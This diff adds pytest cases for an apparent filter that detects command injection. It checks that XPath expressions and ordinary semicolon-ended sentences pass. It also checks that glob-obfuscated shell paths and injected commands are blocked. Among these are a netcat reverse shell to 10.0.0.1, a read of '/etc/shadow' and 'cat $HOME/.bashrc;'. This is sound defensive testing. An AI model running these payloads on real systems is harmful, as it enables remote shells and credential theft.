@@ -776,3 +776,47 @@ def test_cmd_substrings_spelling_a_word_blocked(edge, sep, sub):
 
 def test_cmd_substring_named_in_text_passes(edge):
     assert_passes_in_note_and_query(edge, "In batch, %PATH:~0,10% gives the first ten characters.")
+
+
+# An XPath's predicates and indexes ("//div[@class='price']", "/tr[3]")
+# are brackets too, but no glob: one holding an "@", "=", a quote or only
+# a number stands for no letter of a name. A bracket that hides a letter
+# still is one.
+XPATHS = ["//div[@class='price']/text()", "/html/body/div[2]/table/tr[3]/td[1]",
+          '=IMPORTXML("https://www.example.com/pricing","//table[@id=\'plans\']//td[2]")',
+          "//a[@href=\"/login\"]", "/catalog/book[price>10]/title[1]"]
+GLOB_LETTERS = ["/b[i]n/sh", "x;/usr/bin/n[c] -e /bin/sh 10.0.0.1 4444", "/e[t]c/sha[d]ow",
+                "a=/bin/ca[t] /etc/hosts"]
+
+
+@pytest.mark.parametrize("value", XPATHS)
+def test_xpath_predicates_are_no_glob(edge, value):
+    assert not rule_fired(edge, value, "rce-glob"), value
+    assert_passes_in_note_and_query(edge, value)
+
+
+@pytest.mark.parametrize("value", GLOB_LETTERS)
+def test_a_bracket_hiding_a_letter_is_a_glob(rce_edge, value):
+    assert rule_fired(rce_edge, value, "rce-glob"), value
+
+
+# A sentence that starts with a command word and ends with ";" is no
+# command line ended by a separator: its words are no arguments a command
+# takes, or the shell could not parse the line ("COUNT(*)"), so nothing
+# runs. A command line so ended still is one.
+SENTENCES_ENDED = ["Watch out for the dog;", "Date of the meeting: Monday;",
+                   "Sort order is wrong;", "Find the report here;", "echo chamber effects;",
+                   "Query I used: SELECT region, COUNT(*) AS deals FROM opportunities "
+                   "WHERE stage = 'Closed Won' GROUP BY region ORDER BY deals DESC;"]
+COMMANDS_ENDED = ["id;", "uname -a;", "sleep 5;", "cat file.txt;", "echo $(id);",
+                  "cat $HOME/.bashrc;", "echo hi > /tmp/x;", "ping localhost;"]
+
+
+@pytest.mark.parametrize("value", SENTENCES_ENDED)
+def test_sentences_ended_by_a_semicolon_pass(edge, value):
+    assert_passes_in_note_and_query(edge, value)
+
+
+@pytest.mark.parametrize("value", COMMANDS_ENDED)
+def test_command_lines_ended_by_a_semicolon_refused(rce_edge, value):
+    assert_blocked_by_rce(rce_edge, value)
